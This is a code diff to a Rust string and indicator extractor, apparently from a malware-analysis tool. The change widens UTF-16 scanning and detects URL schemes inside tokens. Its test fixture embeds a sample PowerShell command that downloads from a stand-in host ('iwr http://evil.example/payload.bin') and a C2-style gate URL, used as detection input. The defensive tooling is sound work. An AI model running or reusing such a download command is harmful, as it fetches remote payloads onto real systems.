@@ -18,8 +18,8 @@ const MIN_RUN: usize = 6;
 /// keeps "file.dll" and "kernel32.dll" out).
 const TLDS: &[&str] = &[
     "com", "net", "org", "info", "biz", "io", "ru", "cn", "de", "uk", "fr", "br", "in", "jp",
-    "xyz", "top", "online", "site", "club", "pw", "tk", "su", "co", "me", "tv", "cc", "us",
-    "eu", "nl", "it", "es", "pl", "kr", "tw", "hk", "ir", "onion", "example", "invalid",
+    "xyz", "top", "online", "site", "club", "pw", "tk", "su", "co", "me", "tv", "cc", "us", "eu",
+    "nl", "it", "es", "pl", "kr", "tw", "hk", "ir", "onion", "example", "invalid",
 ];
 
 #[derive(Debug, Default, PartialEq, Eq)]
@@ -47,20 +47,22 @@ fn runs(bytes: &[u8]) -> Vec<String> {
     if cur.len() >= MIN_RUN {
         out.push(std::mem::take(&mut cur));
     }
-    // UTF-16LE: printable byte followed by zero.
-    let mut cur = String::new();
-    for pair in bytes.chunks_exact(2) {
-        if pair[1] == 0 && (0x20..0x7f).contains(&pair[0]) {
-            cur.push(pair[0] as char);
-        } else {
-            if cur.len() >= MIN_RUN {
-                out.push(std::mem::take(&mut cur));
+    // UTF-16LE: printable byte followed by zero, at either alignment.
+    for start in 0..2 {
+        let mut cur = String::new();
+        for pair in bytes.get(start..).unwrap_or_default().chunks_exact(2) {
+            if pair[1] == 0 && (0x20..0x7f).contains(&pair[0]) {
+                cur.push(pair[0] as char);
+            } else {
+                if cur.len() >= MIN_RUN {
+                    out.push(std::mem::take(&mut cur));
+                }
+                cur.clear();
             }
-            cur.clear();
         }
-    }
-    if cur.len() >= MIN_RUN {
-        out.push(cur);
+        if cur.len() >= MIN_RUN {
+            out.push(cur);
+        }
     }
     out
 }
@@ -95,12 +97,26 @@ pub fn extract(bytes: &[u8]) -> Indicators {
     for run in runs(bytes) {
         for token in run.split(|c: char| c.is_whitespace() || "\"'<>()[]{},;|`^".contains(c)) {
             let token = token.trim_end_matches(['.', ':', '!', '?']);
+            // A URL can follow other characters in a run ("ehttps://" where a
+            // string's last letter meets the next one): start at the scheme.
+            let lower0 = token.to_ascii_lowercase();
+            let scheme = ["https://", "http://", "ftp://"]
+                .iter()
+                .filter_map(|s| lower0.find(s))
+                .min();
+            let token = scheme.map_or(token, |p| &token[p..]);
             let lower = token.to_ascii_lowercase();
-            if lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("ftp://") {
+            if scheme.is_some() {
                 if ind.urls.len() < MAX_EACH {
                     ind.urls.insert(token.to_owned());
                 }
-                let host = token.split("://").nth(1).unwrap_or("").split(['/', ':', '?', '#']).next().unwrap_or("");
+                let host = token
+                    .split("://")
+                    .nth(1)
+                    .unwrap_or("")
+                    .split(['/', ':', '?', '#'])
+                    .next()
+                    .unwrap_or("");
                 let host = host.rsplit('@').next().unwrap_or(host);
                 if is_ipv4(host) && ind.ips.len() < MAX_EACH {
                     ind.ips.insert(host.to_owned());
@@ -109,7 +125,9 @@ pub fn extract(bytes: &[u8]) -> Indicators {
                 }
             } else if let Some((user, host)) = token.split_once('@') {
                 if !user.is_empty()
-                    && user.chars().all(|c| c.is_ascii_alphanumeric() || "._%+-".contains(c))
+                    && user
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || "._%+-".contains(c))
                     && is_domain(host)
                     && ind.emails.len() < MAX_EACH
                 {
@@ -136,7 +154,9 @@ impl Analyser for Strings {
     }
     fn analyse(&self, bytes: &[u8], _job: &SampleJob) -> Result<serde_json::Value, String> {
         let i = extract(bytes);
-        Ok(serde_json::json!({ "urls": i.urls, "domains": i.domains, "ips": i.ips, "emails": i.emails }))
+        Ok(
+            serde_json::json!({ "urls": i.urls, "domains": i.domains, "ips": i.ips, "emails": i.emails }),
+        )
     }
 }
 
@@ -147,7 +167,11 @@ mod tests {
     #[test]
     fn finds_indicators_in_ascii_and_utf16() {
         let mut data = b"\x00\x01powershell -c iwr http://evil.example/payload.bin; ping 10.0.0.5; mail bob@acme.example\x00".to_vec();
-        data.extend("https://c2.example.ru:8443/gate.php".encode_utf16().flat_map(u16::to_le_bytes));
+        data.extend(
+            "https://c2.example.ru:8443/gate.php"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes),
+        );
         data.extend(b"\x00\x00kernel32.dll user32.dll 999.1.1.1 a.b\x00");
         let i = extract(&data);
         assert!(i.urls.contains("http://evil.example/payload.bin"));
@@ -162,7 +186,9 @@ mod tests {
 
     #[test]
     fn binary_noise_yields_nothing() {
-        let noise: Vec<u8> = (0..10_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
+        let noise: Vec<u8> = (0..10_000u32)
+            .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
+            .collect();
         let i = extract(&noise);
         assert!(i.urls.is_empty() && i.emails.is_empty());
     }
